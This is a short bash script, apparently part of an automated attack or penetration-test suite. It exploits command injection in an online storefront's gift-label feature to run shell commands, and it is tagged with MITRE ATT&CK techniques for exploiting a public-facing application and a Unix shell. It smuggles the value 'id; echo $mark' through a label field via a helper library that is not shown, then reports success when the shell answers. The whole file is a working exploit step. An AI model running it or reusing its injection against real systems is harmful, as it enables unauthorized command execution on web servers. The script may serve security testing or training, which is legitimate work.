#!/usr/bin/env bash
# Runs a shell in the storefront through the command injection of its gift labels. MITRE ATT&CK T1190, Exploit Public-Facing Application; T1059.004, Unix Shell.
. "$(dirname "$0")/lib.sh"

out=$(through_label "id; echo $mark")
[[ $out == *"$mark"* ]] || stopped "no answer from a shell: $out"
worked "the label page answered with ${out%%$'\n'*}"
